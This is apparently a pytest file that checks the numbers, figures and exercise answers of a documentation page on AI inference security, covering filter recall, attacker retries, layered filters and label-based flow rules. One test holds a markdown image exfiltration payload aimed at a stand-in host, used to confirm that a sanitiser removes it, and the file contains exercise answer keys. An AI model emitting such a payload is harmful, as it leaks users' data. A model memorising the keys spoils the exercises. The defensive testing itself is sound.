"""What the page on security tells of its example, its figures, its tables and its exercises."""

import itertools
import re
from pathlib import Path

import numpy as np
import pytest
from scipy import stats

from docs.inference.security import labels, security, untrusted
from docs.inference.security.labels import Step
from scripts.figures import security as recipe
from scripts.figures import security_diagram, style
from tests.answers.plugin import Bench
from tests.said import sayings, tables

PAGE = Path(__file__).resolve().parents[2] / "docs" / "inference" / "security.md"
HOME = PAGE.with_suffix("")
said = sayings(PAGE)
rows_of = tables(PAGE)


def read(name: str) -> style.Table:
    """The numbers of a figure."""
    return style.read_table(HOME / f"{name}.csv")


def at(table: style.Table, key: str, value: float, column: str) -> float:
    """One number of a table, by its row."""
    return table[column][table[key].index(value)]


# The example.


def test_the_filter_by_counts() -> None:
    rows = [
        [int(cell.replace(",", "")) for cell in row[1:]] for row in rows_of("tab-security-example")
    ]
    assert rows == [[99, 1, 100], [999, 98_901, 99_900]]
    for stopped, passed, all_ in rows:
        assert stopped + passed == all_
    assert rows[0][2] / 100_000 == security.BASE
    assert rows[0][0] / rows[0][2] == security.RECALL
    assert rows[1][0] / rows[1][2] == security.FALSE_ALARMS
    found = security_diagram.numbers()
    assert (found["hostile"], found["stopped"], found["honest stopped"]) == ([100], [99], [999])
    said(f"Of {99 + 999:,} alarms 99 are attacks: {99 / 1098:.0%}.".replace("%", " %"))
    said(
        f"$0.99 \\cdot 0.99 = {0.99**2:.4f}$, and 100 with $0.99^{{100}} = {0.99**100:.3f}$.",
        f"So with 100 tries an attacker has passed with probability {1 - 0.99**100:.3f}; half are "
        f"through after {np.log(2) / -np.log(0.99):.0f}.",
        f"both would miss $0.01 \\cdot 0.01 = {0.01**2:.4f}$.",
        f"both miss {security.missed_by_all(0.01, 0.5, 2):.3f}, fifty times as much, and further "
        "filters of this sort leave the 0.005 as they are.",
    )
    assert security.missed_by_all(0.01, 0.5, 2) / 0.01**2 == pytest.approx(50, abs=0.5)


def test_the_program_by_hand() -> None:
    start = (Step("read", "b"), Step("send", "a"))
    assert labels.run(start, "eve", labels.Rule()) == ["ann"]
    longer = (*start, Step("join", "a", "b"), Step("send", "a"))
    assert labels.run(longer, "eve", labels.Rule()) == ["ann"]
    assert labels.run(longer, "eve", labels.NONE) == ["ann", "anneve"]
    switch = (Step("read", "b"), Step("set", "a", test="b"), Step("send", "a"))
    sent = [labels.run(switch, mail, labels.NONE) for mail in ("eve", "")]
    assert sent == [["bob"], ["ann"]]


def test_failures_in_the_first_table() -> None:
    rows = rows_of("tab-security-failures")
    assert f"{1 - 0.99**100:.3f}" in rows[0][0]
    assert f"after 5 refusals: {1 - 0.99**5:.3f}" in rows[0][1]
    locked = stats.binom.sf(4, 100, 0.01)
    assert f"with 100 requests {100 * locked:.1f} % of honest users" in rows[0][2]
    assert "0.005 pass two filters in place of 0.0001" in rows[1][0]
    table = read("programs")
    none, full = 0, list(labels.RULES).index("values, both branches")
    assert (
        f"decides in {table['decided'][none]:,.0f} of {table['programs'][none]:,.0f}" in rows[2][0]
    )
    assert f"each of the {table['decided'][none]:,.0f}" in rows[2][2]
    assert f"{table['spoilt'][full]:.0f} of {table['harmless'][full]:,.0f} harmless" in rows[2][2]
    day = 86_400 * (10_000 * 1 + 1_000 * 4) / 1e6
    assert f"{day:,.2f} dollars a day" in rows[6][0]


# The figures.


def test_tries_in_the_figure() -> None:
    table = read("tries")
    assert table["k"][0] == 1
    assert table["k"][-1] == 1000
    for name, recall in (("0.9", 0.9), ("0.99", 0.99), ("0.999", 0.999)):
        assert table[name] == pytest.approx([1 - recall**k for k in table["k"]], rel=1e-5)
    for k, run in zip(table["k"], table["0.99, runs"], strict=True):
        share = 1 - 0.99**k
        assert abs(run - share) < 4 * np.sqrt(share * (1 - share) / recipe.RUNS) + 1e-3
    said(
        f"99.9 % last, which ends at {table['0.999'][-1]:.2f}.",
        f"has passed {at(table, 'k', 20, 'score'):.2f} at 20 tries and "
        f"{at(table, 'k', 50, 'score'):.2f} at 50](",
        f"passed within 69 tries in {100 * at(table, 'k', 69, 'refusals'):.0f} % of "
        f"{recipe.FILTERS * recipe.EACH} runs, near the formula;",
        f"in all {recipe.FILTERS * recipe.EACH} ([table](security/tries.csv))",
        f"Squares: {recipe.RUNS:,} simulated attackers.",
        f"Triangles: {recipe.FILTERS} toy filters with {recipe.EACH} attackers each",
        f"texts have {security.PLACES} places with two wordings each, and exactly those",
    )
    assert at(table, "k", 69, "score") == 1


def test_alarms_in_the_figure() -> None:
    table = read("alarms")
    for recall, false in recipe.PAIRS:
        name = f"{recall}, {false}"
        for base, line, run in zip(table["base"], table[name], table[f"{name}, runs"], strict=True):
            assert line == pytest.approx(
                base * recall / (base * recall + (1 - base) * false), rel=1e-5
            )
            alarms = recipe.TEXTS * (base * recall + (1 - base) * false)
            assert abs(run - line) < 4 * np.sqrt(line * (1 - line) / alarms)
        assert all(a < b for a, b in itertools.pairwise(table[name]))
    best, middle, low = (table[f"{r}, {f}"] for r, f in recipe.PAIRS)
    assert all(a > b > c for a, b, c in zip(best, middle, low, strict=True))
    said(
        f"is highest, from {best[0]:.2f} to {best[-1]:.2f}.",
        f"lie close together, from about {middle[0]:.2f} to {middle[-1]:.2f} and {low[-1]:.2f}.",
    )
    assert round(low[0], 2) == round(middle[0], 2)
    assert max(m - c for m, c in zip(middle, low, strict=True)) < 0.03


def test_precision_in_the_text() -> None:
    said(
        f"With $b = 0.001$ it is {security.precision(0.99, 0.01, 0.001):.3f}.",
        f"with $r = 1$ it is {security.precision(1, 0.01, 0.001):.3f}.",
        f"with $f = 0.001$ it is {security.precision(0.99, 0.001, 0.001):.3f}.",
    )


def test_layers_in_the_figure() -> None:
    table = read("layers")
    for shared in recipe.SHARES:
        for n, line, run in zip(
            table["filters"], table[f"{shared}"], table[f"{shared}, runs"], strict=True
        ):
            assert line == pytest.approx(security.missed_by_all(0.01, shared, int(n)), rel=1e-5)
            assert abs(run - line) <= 5 * np.sqrt(line / recipe.ATTACKS)
    assert [round(x, 3) for x in table["0.1"][1:]] == [0.001] * 4
    assert [round(x, 3) for x in table["0.5"][1:]] == [0.005] * 4
    falls = [a / b for a, b in itertools.pairwise(table["0.0"])]
    assert falls == pytest.approx([100] * 4)
    said(
        "the line falls by a factor of 100 for each filter. With 10 % common it stays at 0.001 "
        "from two filters on, with 50 % at 0.005."
    )


# The text below.


def test_half_of_the_attackers_and_accounts() -> None:
    assert security.tries_for_half(0.99) / security.tries_for_half(0.9) == pytest.approx(
        10, abs=0.5
    )
    halves = [f"{np.log(2) / -np.log(r):.1f} for" for r in recipe.RECALLS]
    said(f"This is {halves[0]} a recall of 0.9, {halves[1]} 0.99 and {halves[2]} 0.999")
    said(
        f"Five tries pass with $1 - 0.99^5 = {1 - 0.99**5:.3f}$.",
        f"which is {stats.binom.sf(4, 100, 0.01):.4f} for $f = 0.01$, $n = 100$ and $l = 5$.",
        f"For $n = 1000$ it is {stats.binom.sf(4, 1000, 0.01):.2f}, so refusals must be forgotten",
        f"With ten accounts the attacker has 50 tries again, and {1 - 0.99**50:.3f}.",
    )


def test_a_kind_that_is_never_stopped() -> None:
    w, r = [0.01] * 100, [1.0] * 99 + [0.0]
    assert np.dot(w, r) == pytest.approx(0.99)
    assert [security.kinds(w, r, k)[1] for k in (1, 100)] == pytest.approx([0.01, 0.01])
    said("has passed with 0.01 after one try and still with 0.01 after 100.")


def test_no_success_in_the_text() -> None:
    said(
        f"For $n = 100$ this is {security.none_seen(100):.3f}, and 299 attempts without success "
        "are needed for 0.01."
    )
    said("Wrong: The rate is below 1 %. => That takes 299 attempts.")
    assert security.none_seen(299) <= 0.01
    assert security.none_seen(298) > 0.01


def test_the_counts_of_programs() -> None:
    table = read("programs")
    shown = [
        [float(c.replace(",", "")) for c in row[1:]] for row in rows_of("tab-security-programs")
    ]
    columns = [table[name] for name in ("sent", "decided", "spoilt")]
    assert shown == [list(row) for row in zip(*columns, strict=True)]
    assert set(table["programs"]) == {13_506}
    assert set(table["harmless"]) == {11_550}
    said("Of 13,506 programs, 11,550 of them harmless without a rule")
    said("in all 13,506 programs of up to three statements of a small language")
    said("and leave 498 programs in which the mail turns the switch")
    said("The 1,956 programs in which the mail decides include useful ones")
    said(
        "All programs of one to three statements over two variables with a `send` are run, each with three mails"
    )
    two = [labels.count(2, rule) for rule in labels.RULES.values()]
    assert [c.decided for c in two] == [24, 6, 0, 0, 0]


def test_each_program_that_a_stranger_decides_is_changed() -> None:
    full = labels.RULES["values, both branches"]
    decided = [p for p in labels.programs(3) if labels.decides(p, labels.NONE)]
    assert len(decided) == 1956
    for program in decided:
        runs = [
            (labels.run(program, m, full), labels.run(program, m, labels.NONE))
            for m in labels.MAILS
        ]
        assert any(a != b for a, b in runs)


def test_the_harmless_ones_that_are_changed_test_a_joined_text() -> None:
    full = labels.RULES["values, both branches"]
    changed = [
        p
        for p in labels.programs(3)
        if any(labels.run(p, m, full) != labels.run(p, m, labels.NONE) for m in labels.MAILS)
        and not labels.decides(p, labels.NONE)
    ]
    assert len(changed) == 12
    said(
        "The 12 harmless ones that are changed ask whether the mail with the user's text behind it"
    )
    for first, joined, last in changed:
        assert (first.kind, joined.kind, last.kind) == ("read", "join", "send")
        assert last.test == joined.name == first.name


def test_bills() -> None:
    one = security.bill(1, 10_000, 1_000, 1, 4)
    said(
        "At invented prices of 1 and 4 dollars a million tokens, a request that reads 10,000 and "
        f"writes 1,000 costs {one:.3f} dollars; one such request a second for a day, "
        f"{86_400 * one:,.2f}."
    )
    said(f"100 requests a day cost {100 * one:.2f} dollars at most")


def test_the_name_that_opens_the_table() -> None:
    said(f"and the name be `{untrusted.NAME}`.")


# The exercises.


@pytest.mark.answer("answer-security-try")
def test_try_it(answer: Bench) -> None:
    first = next(k for k in range(1, 1000) if 0.99**k <= 0.05)
    answer("answer-security-try").is_(first, 95)
    said(f"$0.99^{{298}} = {0.99**298:.5f}$ and $0.99^{{299}} = {0.99**299:.4f}$.")
    said(f"$1 - 0.99^{{95}} = {1 - 0.99**95:.3f}$.")


@pytest.mark.answer("answer-security-tries")
def test_exercise_1_tries(answer: Bench) -> None:
    answer("answer-security-tries").is_(
        (security.through(0.95, 20), security.tries_for_half(0.95)), (20 * 0.05, 0.5 / 0.05)
    )


@pytest.mark.answer("answer-security-bayes")
def test_exercise_2_alarms(answer: Bench) -> None:
    assert pytest.approx(398) == 0.02 * (20_000 - 20_000 / 200)
    answer("answer-security-bayes").is_(security.precision(0.9, 0.02, 1 / 200), 0.9)


@pytest.mark.answer("answer-security-floor")
def test_exercise_3_two_filters(answer: Bench) -> None:
    answer("answer-security-floor").is_(security.missed_by_all(0.02, 0.3, 2), 0.02**2)


@pytest.mark.answer("answer-security-trifecta")
def test_exercise_4_one_of_three(answer: Bench) -> None:
    answer("answer-security-trifecta").is_(
        "It may fetch exact addresses of a list alone, none of which forwards."
    )
    cut = untrusted.shown("![x](https://out.example/p?d=file)", {"shop.example"})
    assert "file" not in cut


@pytest.mark.answer("answer-security-none")
def test_exercise_5_no_success(answer: Bench) -> None:
    answer("answer-security-none").is_(
        "Against attempts like these the rate is below about 5 %, at 95 %."
    )
    said(f"$1 - 0.05^{{1/60}} = {security.none_seen(60):.3f}$.")
    said(
        f"A rate of 4 % would give the same in {100 * stats.binom.pmf(0, 60, 0.04):.0f} of 100 such tests."
    )


@pytest.mark.answer("answer-security-count")
def test_exercise_6_programs(answer: Bench) -> None:
    found = labels.count(2, labels.RULES["values"])
    answer("answer-security-count").is_((found.programs, found.decided))
    assert labels.decides((Step("read", "b"), Step("send", "a", test="b")), labels.RULES["values"])


@pytest.mark.answer("answer-security-short")
def test_exercise_7_a_short_file(answer: Bench) -> None:
    answer("answer-security-short").is_("It raises a ValueError.")
    with pytest.raises(ValueError, match="does not fit"):
        untrusted.load(untrusted.save({"w": [1.0, 2.0]})[:-8])


def test_the_first_depth_is_short() -> None:
    first = PAGE.read_text(encoding="utf-8").partition("\n## Objective")[0]
    assert len(re.findall(r"\w+", first)) < 2300  # with alt texts, tables, marks and code
